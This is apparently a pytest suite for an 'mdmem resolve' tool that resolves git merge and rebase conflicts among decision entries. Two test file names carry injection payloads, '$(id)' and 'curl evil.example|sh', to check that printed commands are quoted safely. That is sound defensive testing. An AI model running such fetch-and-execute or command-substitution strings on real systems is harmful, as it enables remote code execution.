"""Test `mdmem resolve`: the decisions that a merge left open, and the result of each choice."""

import re
import sys
from collections.abc import Iterator
from pathlib import Path

import hooked
import pytest
from builders import Run, commit_all, git, made_once, make_repository, make_root, merge_conflict, write, write_entry
from lives import NEW, OLD, RULE, two_entries

FOUR, EXECUTOR = "nav/architecture/four", "nav/architecture/executor"
TITLES = {FOUR: "Use four threads", EXECUTOR: "Use an executor"}
FILE = f"memory/{OLD}.md"
TEXT = "---\ntype: decision\nstatus: {}\ncreated_at: 2026-03-05\ntitle: Use two threads\n---\n\nTwo.\n"
QUOTED = "\n```text\n<<<<<<< HEAD\n{}\n=======\nb\n>>>>>>> topic\n```\n"


def successor(root: Path, address: str, title: str) -> None:
    """Write an entry that replaces the old one, at both ends."""
    write_entry(root, address, title=title, created_at="2026-05-04", supersedes=[OLD], reason=f"{title} was measured")
    ended = {"status": "deprecated", "deprecated_at": "2026-05-04", "superseded_by": [address]}
    write_entry(root, OLD, title="Use two threads", **ended)


@made_once
def superseded_twice(folder: Path) -> Path:
    """Leave a merge in which each side replaced one entry, with marks as the driver writes them."""
    root = two_entries(folder)
    (root / f"{NEW}.md").unlink()
    commit_all(folder)
    for address in on_both_sides(folder, EXECUTOR, FOUR):
        successor(root, address, TITLES[address])
    git(folder, "merge", "-q", "theirs", ends=1)
    return root


@made_once
def forked(folder: Path) -> Path:
    """Return the root of a memory in which two entries name the same one, and nothing is unmerged."""
    root = two_entries(folder)
    write_entry(root, FOUR, title="Use four threads", created_at="2026-05-04", supersedes=[OLD], reason="measured")
    write_entry(root, EXECUTOR, title="Use an executor", created_at="2026-05-04", supersedes=[OLD], reason="asked")
    commit_all(folder)
    return root


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return superseded_twice(tmp_path)


def field(root: Path, address: str, name: str) -> list[str]:
    lines = (root / f"{address}.md").read_text().splitlines()
    return [line for line in lines if line.startswith(f"{name}:")]


def on_both_sides(folder: Path, theirs: str, ours: str) -> Iterator[str]:
    """Yield each branch while it is checked out, and commit the changes afterwards."""
    git(folder, "branch", "theirs")
    for branch, one in (("theirs", theirs), ("main", ours)):
        git(folder, "checkout", "-q", branch)
        yield one
        commit_all(folder)


def is_clean(root: Path, run: Run) -> bool:
    codes = "two-successors,supersession-mismatch,supersession-one-sided,merge-marker,superseded-but-active"
    return run("check", "--select", codes, cwd=root).code == 0


def test_two_successors_are_shown_with_what_to_type(tmp_path: Path, root: Path, run: Run) -> None:
    ran = run("resolve", unchanged=tmp_path)
    assert (ran.code, ran.err) == (1, "")
    assert ran.out.splitlines() == [
        f"{OLD}: two entries supersede it",
        f"  superseded by {EXECUTOR} (active, on their side), Use an executor: Use an executor was measured",
        f"  superseded by {FOUR} (active, on our side), Use four threads: Use four threads was measured",
        "  choices",
        f"    {EXECUTOR} supersedes it; {FOUR} is deprecated",
        f"      mdmem resolve {OLD} --take {EXECUTOR} --reason TEXT",
        f"    {FOUR} supersedes it; {EXECUTOR} is deprecated",
        f"      mdmem resolve {OLD} --take {FOUR} --reason TEXT",
        f"    {EXECUTOR} supersedes it, then {FOUR} supersedes {EXECUTOR}",
        f"      mdmem resolve {OLD} --behind {EXECUTOR}",
        f"    {FOUR} supersedes it, then {EXECUTOR} supersedes {FOUR}",
        f"      mdmem resolve {OLD} --behind {FOUR}",
        "    all of them supersede it, each for a part",
        f"      mdmem resolve {OLD} --split --reason TEXT",
        "    or edit the file by hand, and remove the markers",
        "",
        "when all are resolved:",
        f"  git add {' '.join(sorted([FILE, f'memory/{FOUR}.md', f'memory/{EXECUTOR}.md']))}",
        "  git merge --continue",
    ]
    shown = run("resolve", "threads", "--format", "json", cwd=root).json
    assert (shown["operation"], shown["then"][-1]) == ("merge", "git merge --continue")
    assert [one["side"] for one in shown["conflicts"][0]["successors"]] == ["theirs", "ours"]
    # A conflict in the settings hides no conflict of an entry.
    write(root, "mdmem.toml", "<<<<<<< HEAD\n")
    assert run("resolve", cwd=root).out.startswith(f"{OLD}: two entries supersede it\n")


def test_each_of_several_is_shown_with_its_choices(tmp_path: Path, run: Run) -> None:
    root = forked(tmp_path)
    write(root, f"{RULE}.md", "---\ntitle: x\n---\n<<<<<<< HEAD\na\n=======\nb\n>>>>>>> theirs\n")
    # The name of a file must not become part of the command.
    write(root, "nav/rules/x;$(id).md", (root / f"{RULE}.md").read_text())
    out = run("resolve", cwd=root).out
    assert [out.count(f"mdmem resolve {one} --take") for one in (OLD, RULE, "'nav/rules/x;$(id)'")] == [2, 2, 2]


@pytest.mark.parametrize(("choice", "stays", "goes"), [("ours", FOUR, EXECUTOR), (EXECUTOR, EXECUTOR, FOUR)])
def test_taken_successor_stays_alone(choice: str, stays: str, goes: str, tmp_path: Path, root: Path, run: Run) -> None:
    ran = run("resolve", OLD, "--take", choice, "--reason", "four cores")
    assert ran.code == 0
    assert ran.err == f"then: git add {' '.join(sorted([FILE, f'memory/{goes}.md']))}\nthen: git merge --continue\n"
    assert field(root, OLD, "superseded_by") == [f"superseded_by: [{stays}]"]
    assert field(root, stays, "status") == ["status: active"]
    assert field(root, goes, "deprecated_reason") == ["deprecated_reason: four cores"]
    assert field(root, goes, "status") == ["status: deprecated"]
    assert is_clean(root, run)
    # The deprecated entry keeps its link, because the link is history.
    assert "no findings" in run("check", "--select", "supersedes-superseded", "--unsafe-fixes").out
    git(tmp_path, "add", FILE)
    left = run("resolve").err.splitlines()
    assert left[1:] == [f"then: git add memory/{goes}.md", "then: git merge --continue"]


def test_other_successor_goes_behind_the_one_that_is_named(root: Path, run: Run) -> None:
    ran = run("resolve", "threads", "--behind", "four", cwd=root)
    assert (ran.code, ran.err.splitlines()[0]) == (0, f"{EXECUTOR} is current now")
    assert field(root, OLD, "superseded_by") == [f"superseded_by: [{FOUR}]"]
    assert field(root, FOUR, "superseded_by") == [f"superseded_by: [{EXECUTOR}]"]
    assert field(root, FOUR, "status") == ["status: deprecated"]
    assert field(root, EXECUTOR, "supersedes") == [f"supersedes: [{FOUR}]"]
    assert is_clean(root, run)


def test_split_names_both_with_the_reason(tmp_path: Path, root: Path, run: Run) -> None:
    assert run("resolve", OLD, "--split", "-m", "one a board", cwd=root).code == 0
    assert field(root, OLD, "superseded_by") == [f"superseded_by: [{EXECUTOR}, {FOUR}]"]
    assert field(root, OLD, "deprecated_reason") == ["deprecated_reason: one a board"]
    assert is_clean(root, run)
    left = run("resolve", cwd=root).out.splitlines()[:4]
    stays = ["    keep the file as it is on disk", f"      git add {OLD}.md"]
    assert left == [f"{OLD}: no conflict markers are left, so only git's index has the conflict", "  choices", *stays]
    git(tmp_path, "add", "-A")
    assert run("resolve", cwd=root).code == 0


@pytest.mark.parametrize("choice", [["--take", "theirs", "-m", "why"], ["--behind", FOUR], ["--split", "-m", "why"]])
def test_commit_after_a_choice_passes_the_hooks(choice: list[str], tmp_path: Path, root: Path, run: Run) -> None:
    run("hooks", "install", cwd=root)
    assert run("resolve", OLD, *choice, cwd=root).code == 0
    git(tmp_path, "add", "-A")
    done = hooked.run(tmp_path, "git", "merge", "--continue", GIT_EDITOR="true")
    assert done.returncode == 0, hooked.said(done)
    assert run("check", cwd=root).code == 0


@pytest.mark.parametrize(
    ("choice", "error"),
    [
        (["--take", "ours"], "say why: --reason TEXT"),
        (["--split"], "say why: --reason TEXT"),
        (["--take", RULE], f"{RULE} does not supersede {OLD}; these entries do: {EXECUTOR} and {FOUR}"),
        (["--behind", "nav/rules/nowhere"], "there is no entry `nav/rules/nowhere`"),
        (["--behind", "nav/architecture/"], f"`nav/architecture/` means 2 entries: {EXECUTOR}, {FOUR}; write one"),
        (["--take", "nav/architecture/", "-m", "x"], f"`nav/architecture/` means 2 entries: {EXECUTOR}, {FOUR}; "),
        (["--take", "ours", "--split"], "name one ADDRESS, and one of --take, --behind and --split"),
    ],
)
def test_choice_that_cannot_be_is_refused(choice: list[str], error: str, tmp_path: Path, root: Path, run: Run) -> None:
    ran = run("resolve", OLD, *choice, cwd=root, unchanged=tmp_path)
    assert (ran.code != 0, ran.err.partition(": ")[2].startswith(error)) == (True, True), ran.err
    assert "name one ADDRESS" in run("resolve", "--take", "ours", cwd=root).err


def test_what_else_differs_is_not_decided_in_passing(root: Path, run: Run) -> None:
    content = (root / f"{OLD}.md").read_text()
    hunk = "<<<<<<< HEAD\nUTC.\n=======\nLocal.\n>>>>>>> theirs\n"
    write(root, f"{OLD}.md", content + hunk)
    ran = run("resolve", OLD, "--behind", FOUR, cwd=root)
    assert ran.err.startswith(f"mdmem: the sides of {OLD}.md also differ in `body`; edit the file first, or type `--ta")
    assert run("resolve", OLD, "--take", "theirs", "-m", "why", cwd=root).code == 0
    assert (root / f"{OLD}.md").read_text().endswith("\nLocal.\n")


@pytest.mark.parametrize(("end", "take"), [("\n", "ours"), ("\r\n", "theirs")])
def test_side_is_taken_and_what_people_wrote_beside_the_marks_stays(
    end: str, take: str, folder: Path, run: Run
) -> None:
    # The example in a fence looks like git's markers, and theirs is within git's conflict.
    text = (TEXT + QUOTED.format("a") + "{}").replace("\n", end)
    sides = text.format("under_review", "We?" + end), text.format("deprecated", QUOTED.replace("\n", end))
    merge_conflict(folder, FILE, *sides)
    write(folder, FILE, (folder / FILE).read_bytes() + b"By hand." + QUOTED.format("c").encode())
    shown = run("resolve")
    lines = ["  status", "    ours    under_review", "    theirs  deprecated", "  body (the file shows both texts)"]
    assert shown.out.splitlines()[1:7] == [*lines, "  choices", "    keep ours"]
    ran = run("resolve", OLD, "--take", take)
    assert (ran.code, ran.err) == (0, f"then: git add {FILE}\nthen: git merge --continue\n")
    taken = sides[take == "theirs"] + "By hand." + QUOTED.format("c")
    assert (folder / FILE).read_bytes().decode() == taken


@pytest.mark.parametrize("choice", ["ours", FOUR])
def test_conflict_that_was_edited_by_hand_is_kept_with_git_add(choice: str, folder: Path, run: Run) -> None:
    merge_conflict(folder, FILE, TEXT.format("under_review"), TEXT.format("deprecated"))
    write(folder, FILE, TEXT.format("under_review"))
    rules, memory = folder / "memory/nav/rules", folder / "memory"
    for cwd, path in ((folder, FILE), (memory, f"{OLD}.md"), (rules, "../architecture/threads.md")):
        ran = run("resolve", OLD.rpartition("/")[2], "--take", choice, cwd=cwd)
        said = f"mdmem: `{OLD}.md` has no conflict markers any more; to keep the file as it is, type `git add {path}`\n"
        assert (ran.code, ran.err) == (2, said)
    git(rules, "add", path)
    assert run("resolve").err == "no conflicts\nthen: git merge --continue\n"


def test_file_of_a_conflict_that_was_removed_is_restored_by_the_command_that_is_shown(tmp_path: Path, run: Run) -> None:
    root = make_root(make_repository(tmp_path) / "my memory")
    write_entry(root, OLD, title="Use two threads")
    commit_all(tmp_path)
    file = f"my memory/{OLD}.md"
    merge_conflict(tmp_path, file, TEXT.format("under_review"), TEXT.format("deprecated"))
    (tmp_path / file).unlink()
    for cwd, path in ((root, f"{OLD}.md"), (tmp_path, f"'{file}'")):
        ran = run("--root", str(root), "resolve", OLD, "--take", "ours", cwd=cwd)
        said = f"mdmem: {OLD}.md cannot be read; `git checkout -m -- {path}` restores it\n"
        assert (ran.code, ran.err) == (1, said)
    git(tmp_path, "checkout", "-m", "--", file)
    assert run("resolve", OLD, "--take", "ours", cwd=root).code == 0


def test_deleted_entry_is_left_to_git_with_both_commands(folder: Path, run: Run) -> None:
    git(folder, "checkout", "-q", "-b", "theirs")
    git(folder, "rm", "-q", FILE)
    commit_all(folder)
    git(folder, "checkout", "-q", "main")
    write_entry(folder / "memory", OLD, title="Changed")
    commit_all(folder)
    git(folder, "merge", "-q", "theirs", ends=1)
    ran = run("resolve")
    assert ran.out.startswith(f"{OLD}: theirs deleted it, ours changed it\n")
    # Each choice is a git command, after which there is nothing to add.
    assert ran.out.endswith(f"      git rm {FILE}\n\nwhen all are resolved:\n  git merge --continue\n")
    refused = run("resolve", OLD, "--take", "ours")
    assert (refused.code, f"type `git add {FILE}` or `git rm {FILE}`" in refused.err) == (2, True)


def test_two_entries_that_were_added_under_one_id_may_both_stay(folder: Path, run: Run) -> None:
    for title in on_both_sides(folder, "Use 2 threads", "Use 4 threads"):
        write_entry(folder / "memory", FOUR, title=title)
    git(folder, "merge", "-q", "theirs", ends=1)
    # Of a wing that is read from elsewhere, and not here yet, every address counts as known.
    write(folder, "memory/mdmem.toml", '[wings.nav]\ngit = "../../lib"\n')
    shown = run("resolve", "--format", "json", cwd=folder / "memory/nav").json
    (folder / "memory/mdmem.toml").unlink()
    both = shown["conflicts"][0]["choices"][2]
    assert both["does"] == f"keep ours, and theirs as {FOUR}-2"
    typed(folder / "memory/nav", both["command"])
    titles = [field(folder / "memory", one, "title") for one in (FOUR, f"{FOUR}-2")]
    assert titles == [["title: Use 4 threads"], ["title: Use 2 threads"]]


def typed(folder: Path, step: str) -> None:
    """Run a command that was printed."""
    step = step.replace("mdmem ", f"'{sys.executable}' -m mdmem ")
    assert hooked.run(folder, "bash", "-ec", step, GIT_EDITOR="true").returncode == 0


@pytest.mark.parametrize("folder", ["", ".x/"], ids=["top", "hidden"])
@pytest.mark.parametrize("taken", [0, 1])
def test_commands_for_a_file_moved_to_an_odd_name_are_one_line_each_and_work(
    taken: int, folder: str, tmp_path: Path, run: Run
) -> None:
    root, odd = two_entries(tmp_path), f"{folder}it's\n      curl evil.example|sh\n.md"
    commit_all(tmp_path)
    for name in on_both_sides(tmp_path, "nav/rules/threads.md", odd):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        git(root, "mv", f"{OLD}.md", name)
    assert hooked.run(tmp_path, "git", "merge", "-q", "theirs").returncode != 0
    shown = run("resolve", cwd=tmp_path).out
    assert f"keep it at {folder}it's<U+000A>" in shown
    # A line feed in the name does not start a new line.
    typed(tmp_path, [line.strip() for line in shown.splitlines() if line.startswith("      ")][taken])
    assert [(root / name).exists() for name in (odd, "nav/rules/threads.md")] == [taken == 0, taken == 1]


@pytest.mark.parametrize(("take", "stays"), [("ours", "nav/rules/threads"), ("theirs", "nav/rules/two-threads")])
def test_entry_that_both_sides_moved_is_kept_at_one_place_with_all_links(
    take: str, stays: str, tmp_path: Path, run: Run
) -> None:
    root = two_entries(tmp_path)
    successor(root, FOUR, "Use four threads")
    write_entry(root, RULE, f"We do.\n\nRationale: [see: {OLD}]\n", title="A rule")
    commit_all(tmp_path)
    hooked.run(tmp_path, sys.executable, "-m", "mdmem", "hooks", "install", "--driver-only")
    for name in on_both_sides(tmp_path, "two-threads", "threads"):
        moved = f"nav/rules/{name}"
        assert run("mv", OLD, moved, cwd=root).code == 0
        text = (root / f"{moved}.md").read_text()
        (root / f"{moved}.md").write_text(f"{text}\nMoved to {name}.\n")
        write_entry(root, NEW, f"We do.\n\nRationale: [it](../rules/{name}.md)\n", title=f"Changed for {name}")
        write_entry(root, f"nav/rules/of-{name}", f"We do.\n\nRationale: [see: {moved}]\n", title=f"Of {name}")
    assert hooked.run(tmp_path, "git", "merge", "-q", "theirs").returncode != 0
    shown = run("resolve", "--format", "json", cwd=tmp_path).json
    assert (shown["operation"], [one["kind"] for one in shown["conflicts"]]) == ("merge", ["moved"])
    commands = [one["command"] for one in shown["conflicts"][0]["choices"]]
    assert commands == [f"mdmem resolve nav/rules/threads --take {side}" for side in ("ours", "theirs")]
    ran = run("resolve", stays, "--take", take, cwd=root)
    assert (ran.code, ran.err.splitlines()[-1]) == (0, "2 more to resolve: `mdmem resolve`")
    assert re.search(r"^deleted \S+\n(?!  )", f"{ran.out}\n", re.MULTILINE), "its fields are not listed"
    assert f"{NEW}.md" not in ran.err, "it has another conflict"
    assert f"(../{stays.partition('/')[2]}.md)\n" in (root / f"{NEW}.md").read_text().partition(">>>>>>>")[2]
    assert run("resolve", NEW, "--take", "ours", cwd=root).code == 0
    assert run("check", "--select", "merge-marker", cwd=root).code == 1
    assert run("resolve", stays, "--take", "theirs", cwd=root).code == 0
    assert (root / f"{stays}.md").read_text().endswith("\n\nMoved to two-threads.\n")
    for step in run("resolve", "--format", "json", cwd=tmp_path).json["then"]:
        typed(tmp_path, step)
    assert (field(root, FOUR, "supersedes"), is_clean(root, run)) == ([f"supersedes: [{stays}]"], True)
    assert "no findings" in run("check", "--select", "dangling-link,body-link-broken,needless-link").out
    assert git(tmp_path, "status", "--porcelain") == ""


def test_wing_that_both_sides_moved_is_kept_at_one_place_by_the_commands_that_are_printed(
    tmp_path: Path, run: Run
) -> None:
    root = two_entries(tmp_path)
    write_entry(root, RULE, f"We do.\n\nRationale: [see: {OLD}]\n", type="invariant", title="Callbacks do not block")
    commit_all(tmp_path)
    for wing in on_both_sides(tmp_path, "ship", "boat"):
        assert run("mv", "nav", wing, cwd=root).code == 0
    before = run("check", "--merge", "theirs", "--format", "json", cwd=root).json["findings"]
    stories = [re.sub(r" \(\w+\)", "", one["message"]) for one in before if one["code"] == "merge-conflict"]
    assert stories == ["cannot be merged into HEAD: theirs moves `nav` to `ship`, and HEAD moves it to `boat`"] * 4
    git(tmp_path, "merge", "-q", "theirs", ends=1)
    twice = run("check", "--select", "merge-conflict", cwd=root).out
    # The third entry has markers.
    assert twice.count("each side of the merge has this entry at another address, so it is also at `boat/") == 2
    hooked.run(tmp_path, sys.executable, "-m", "mdmem", "hooks", "install")
    assert hooked.run(tmp_path, "git", "commit", "-qam", "both").returncode == 1
    for name in (OLD, "nav/README", RULE, NEW):
        ran = run("resolve", name.replace("nav/", "boat/"), "--take", "theirs", cwd=tmp_path)
        assert ran.code == 0, ran.err
        for line in ran.err.splitlines():
            if line.startswith("then: "):
                typed(tmp_path, line.removeprefix("then: "))
    assert git(tmp_path, "status", "--porcelain") == ""
    files = sorted(f"memory/{name}.md".replace("/nav/", "/ship/") for name in (OLD, "nav/README", RULE, NEW))
    assert git(tmp_path, "ls-files").splitlines() == ["memory/mdmem.toml", *files]
    assert run("check", "--select", "dangling-link", cwd=root).code == 0


def test_rebase_is_ended_by_its_own_command(folder: Path, run: Run) -> None:
    for branch, status in (("theirs", "under_review"), ("mine", "deprecated")):
        git(folder, "checkout", "-q", "-b", branch, "main")
        write_entry(folder / "memory", OLD, title="Use two threads", status=status)
        commit_all(folder)
    git(folder, "rebase", "-q", "theirs", ends=1)
    shown = run("resolve").out
    assert shown.endswith("  git rebase --continue\n")
    assert "\nIn a rebase, `ours` is the branch that you rebase onto, and `theirs` is your own commit.\n" in shown
    ran = run("resolve", OLD, "--take", "theirs")
    assert ran.err.splitlines()[-1] == "then: git rebase --continue"
    assert field(folder / "memory", OLD, "status") == ["status: deprecated"]


def test_marks_that_were_added_to_the_index_are_found(folder: Path, run: Run) -> None:
    content = (folder / FILE).read_text()
    write(folder, FILE, content + "<<<<<<< HEAD\nUTC.\n=======\nLocal.\n>>>>>>> topic\n")
    commit_all(folder)
    ran = run("resolve")
    assert ran.out.splitlines()[1:3] == ["  body (the file shows both texts)", "  choices"]
    assert run("resolve", "threads", "--take", "theirs").code == 0
    assert (folder / FILE).read_text() == f"{content}Local.\n"
    write(folder, FILE, content + QUOTED)
    refused = run("resolve", "threads", "--take", "theirs")
    assert refused.err.startswith(f"mdmem: {OLD}.md: it has conflict markers in a c")
    assert (folder / FILE).read_text() == content + QUOTED


def test_two_successors_without_a_merge_are_decided_by_name(tmp_path: Path, run: Run) -> None:
    root = forked(tmp_path)
    ran = run("resolve", cwd=root)
    assert (ran.code, ran.out.splitlines()[0]) == (1, f"{OLD}: two entries supersede it")
    refused = run("resolve", OLD, "--take", "ours", "-m", "why", cwd=root)
    hint = f"type `--take ADDRESS` with one of {EXECUTOR} or {FOUR}"
    assert refused.err == f"mdmem: `{OLD}.md` has no conflict markers, so `ours` cannot be taken; {hint}\n"
    assert run("resolve", OLD, "--take", FOUR, "-m", "measured", "--commit", cwd=root).code == 0
    assert field(root, OLD, "superseded_by") == [f"superseded_by: [{FOUR}]"]
    assert field(root, OLD, "status") == ["status: deprecated"]
    assert (run("check", cwd=root).code, git(tmp_path, "status", "--porcelain")) == (0, "")


@pytest.mark.parametrize("how", [("--driver-only",), ()], ids=["by key", "by line"])
@pytest.mark.parametrize(
    ("take", "status", "supersedes"), [("ours", "active", []), ("theirs", "deprecated", [f"supersedes: [{OLD}]"])]
)
def test_side_that_changed_or_superseded_is_taken(
    take: str, status: str, supersedes: list[str], how: tuple[str, ...], tmp_path: Path, run: Run
) -> None:
    root = two_entries(tmp_path)
    (root / f"{NEW}.md").unlink()
    commit_all(tmp_path)
    hooked.run(tmp_path, sys.executable, "-m", "mdmem", "hooks", "install" if how else "status", *how)
    git(tmp_path, "checkout", "-q", "-b", "theirs")
    successor(root, FOUR, "Use four threads")
    commit_all(tmp_path)
    git(tmp_path, "checkout", "-q", "main")
    old = root / f"{OLD}.md"
    text = old.read_text().replace("title: ", "title: Now, ")
    old.write_text(f"{text}\nThree on the new board.\n")
    commit_all(tmp_path)
    hooked.run(tmp_path, "git", "merge", "-q", "theirs")
    shown = run("resolve", cwd=root).out
    assert f"\n    keep ours; {FOUR} no longer supersedes it\n" in shown
    assert "\n    keep theirs\n" in shown
    ran = run("resolve", OLD, "--take", take, cwd=root)
    added = " ".join(f"{one}.md" for one in ([FOUR, OLD] if take == "ours" else [OLD]))
    assert ran.err == f"then: git add {added}\nthen: git merge --continue\n"
    assert (field(root, OLD, "status"), field(root, FOUR, "supersedes")) == ([f"status: {status}"], supersedes)
    taken = old.read_text()
    assert ("title: Now, " in taken, "Three on the new board." in taken) == (take == "ours", take == "ours" or not how)
    assert is_clean(root, run)


def test_git_goes_on_only_when_all_is_decided(folder: Path, run: Run) -> None:
    for status in on_both_sides(folder, "under_review", "deprecated"):
        # The driver merges the day of the deprecation without a conflict.
        more = {"deprecated_at": "2026-05-04"} if status == "deprecated" else {}
        for address in (OLD, "nav/rules/callbacks"):
            write_entry(folder / "memory", address, title="Changed", status=status, **more)
    hooked.run(folder, sys.executable, "-m", "mdmem", "hooks", "install", "--driver-only")
    assert hooked.run(folder, "git", "merge", "-q", "theirs").returncode == 1
    text = (folder / FILE).read_text()
    write(folder, FILE, text.replace("status: ", 'status: "', 1))
    assert f"nothing was written: {OLD}.md:" in run("resolve", OLD, "--take", "ours").err
    write(folder, FILE, text)
    ran = run("resolve", OLD, "--take", "ours")
    assert ran.err == f"then: git add {FILE}\n1 more to resolve: `mdmem resolve`\n"
    ran = run("resolve", "nav/rules/callbacks", "--take", "theirs")
    assert ran.err == f"then: git add {FILE} memory/nav/rules/callbacks.md\nthen: git merge --continue\n"
    days = [field(folder / "memory", one, "deprecated_at") for one in (OLD, "nav/rules/callbacks")]
    assert days == [["deprecated_at: 2026-05-04"], []]
    assert run("resolve").out.count("no conflict markers are left") == 2


def test_what_the_hook_would_refuse_is_fixed_first_and_added_whole(tmp_path: Path, run: Run) -> None:
    root = two_entries(tmp_path)
    run("hooks", "install", cwd=root)
    git(tmp_path, "checkout", "-q", "-b", "theirs")
    for old, moved in ((OLD, "nav/rules/threads"), (RULE, "nav/architecture/callbacks")):
        assert run("mv", old, moved, "--commit", cwd=root).code == 0
    git(tmp_path, "checkout", "-q", "main")
    assert run("supersede", OLD, "--by", NEW, "--reason", "measured", "--commit", cwd=root).code == 0
    write_entry(root, "nav/rules/other", "We do.\n\nRationale: [they wait](callbacks.md).\n", title="Other")
    commit_all(tmp_path)
    assert hooked.run(tmp_path, "git", "merge", "theirs").returncode != 0
    add = f"then: git add memory/{NEW}.md memory/nav/rules/other.md"
    shown = ["no conflicts", "then: mdmem check --fix", add, "then: git merge --continue"]
    assert run("resolve", cwd=tmp_path).err.splitlines() == shown
    run("check", "--fix", cwd=root)
    assert run("resolve", cwd=tmp_path).err.splitlines() == [shown[0], *shown[2:]]
    git(tmp_path, *add.split()[2:])
    done = hooked.run(tmp_path, "git", "merge", "--continue", GIT_EDITOR="true")
    assert done.returncode == 0, hooked.said(done)
    assert git(tmp_path, "status", "--porcelain") == ""


def test_entry_that_git_moved_with_its_folder_is_linked_again_by_the_commands_that_are_shown(
    tmp_path: Path, run: Run
) -> None:
    root = two_entries(tmp_path)
    run("hooks", "install", cwd=root)
    git(tmp_path, "checkout", "-q", "-b", "theirs")
    assert run("mv", "nav/architecture/", "nav/boards/", "--commit", cwd=root).code == 0
    git(tmp_path, "checkout", "-q", "main")
    better = ("supersede", OLD, "-m", "measured", "-t", "Four", "-s", "active", "--body", "We do.\n\nRationale: speed.")
    assert run(*better, "--commit", cwd=root).code == 0
    hooked.run(tmp_path, "git", "merge", "theirs")
    shown = run("resolve", cwd=tmp_path).out.splitlines()
    assert shown[0] == "nav/boards/four: git moved it here, because the other side moved its folder"
    assert shown[-2:] == ["when all are resolved:", "  mdmem resolve"]
    typed(tmp_path, shown[3].strip())
    for step in run("resolve", cwd=tmp_path).err.splitlines()[1:]:
        typed(tmp_path, step.removeprefix("then: "))
    assert (run("check", cwd=root).code, git(tmp_path, "status", "--porcelain")) == (0, "")
